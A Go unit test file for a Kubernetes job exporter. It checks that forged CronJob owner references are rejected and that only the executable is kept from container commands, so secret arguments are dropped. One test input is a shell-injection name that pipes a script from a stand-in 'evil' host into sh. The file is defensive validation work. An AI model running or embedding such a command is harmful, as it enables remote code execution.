package job

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/kube-job-exporter/kube-job-exporter/internal/fixture"
)

// TestCronJobOwner: only a controller reference to a batch/v1 CronJob with
// a valid CronJob name is a CronJob owner; a forged one is no owner, in the
// Summary and in what the cache keeps.
func TestCronJobOwner(t *testing.T) {
	ref := func(apiVersion, kind, name string, controller bool) metav1.OwnerReference {
		return metav1.OwnerReference{APIVersion: apiVersion, Kind: kind, Name: name, UID: "u1", Controller: ptr.To(controller)}
	}
	for _, tt := range []struct {
		what string
		ref  metav1.OwnerReference
		want string
	}{
		{"a CronJob", ref("batch/v1", "CronJob", "nightly-report", true), "nightly-report"},
		{"the longest CronJob name", ref("batch/v1", "CronJob", strings.Repeat("a", MaxCronJobNameLength), true), strings.Repeat("a", MaxCronJobNameLength)},
		{"a name too long for a CronJob", ref("batch/v1", "CronJob", strings.Repeat("a", MaxCronJobNameLength+1), true), ""},
		{"shell in the name", ref("batch/v1", "CronJob", "x; curl http://evil/x.sh | sh #", true), ""},
		{"upper case", ref("batch/v1", "CronJob", "Nightly", true), ""},
		{"another API group", ref("evil.example/v1", "CronJob", "nightly", true), ""},
		{"an old version", ref("batch/v1beta1", "CronJob", "nightly", true), ""},
		{"another kind", ref("argoproj.io/v1alpha1", "Workflow", "train", true), ""},
		{"not the controller", ref("batch/v1", "CronJob", "nightly", false), ""},
	} {
		j := fixture.Job("batch", "run-1").Started(0).J
		j.OwnerReferences = []metav1.OwnerReference{tt.ref}
		name, _, ok := CronJobOwner(j)
		if name != tt.want || ok != (tt.want != "") {
			t.Errorf("%s: CronJobOwner = %q, %v; want %q", tt.what, name, ok, tt.want)
		}
		s := Summarize(j, nil, nil, Options{Backoff: DefaultBackoff})
		if s.OwnerName != tt.want || (s.OwnerKind == "CronJob") != (tt.want != "") {
			t.Errorf("%s: Summary owner %q/%q, want %q", tt.what, s.OwnerKind, s.OwnerName, tt.want)
		}
		if rec := NewJobRecord(j); rec.CronJob != tt.want || (rec.CronJobUID != "") != (tt.want != "") {
			t.Errorf("%s: the cache keeps owner %q (UID %q), want %q", tt.what, rec.CronJob, rec.CronJobUID, tt.want)
		}
	}
}

// TestExecutable: of a command only the program is kept, never what
// follows it, however the command is written.
func TestExecutable(t *testing.T) {
	for _, tt := range []struct {
		command []string
		want    string
	}{
		{nil, ""},
		{[]string{"/app/run", "--password=hunter2"}, "/app/run"},
		{[]string{"/app/run --password=hunter2"}, "/app/run"},
		{[]string{"  sh\t-c 'echo $SECRET'"}, "sh"},
		{[]string{"python\n--token=x"}, "python"},
		// Cut to MaxExecutableLength bytes, the cut marked.
		{[]string{strings.Repeat("a", 300)}, strings.Repeat("a", MaxExecutableLength-len(CutMarker)) + CutMarker},
		{[]string{strings.Repeat("a", 255) + "é"}, strings.Repeat("a", MaxExecutableLength-len(CutMarker)) + CutMarker},
		{[]string{"/bin/\xffrun"}, "/bin/\uFFFDrun"},
	} {
		if got := Executable(tt.command); got != tt.want {
			t.Errorf("Executable(%q) = %q, want %q", tt.command, got, tt.want)
		}
	}
	// The cache and the Summary keep no more than that.
	j := fixture.Job("batch", "secret").Command("/app/run --password=hunter2", "--token=x").Started(0).J
	if got := NewJobRecord(j).Containers[0].Executable; got != "/app/run" {
		t.Errorf("the cache keeps executable %q, want only /app/run", got)
	}
	s := Summarize(j, nil, nil, Options{Backoff: DefaultBackoff})
	if s.Containers[0].Executable != "/app/run" {
		t.Errorf("Summary executable %q", s.Containers[0].Executable)
	}
}
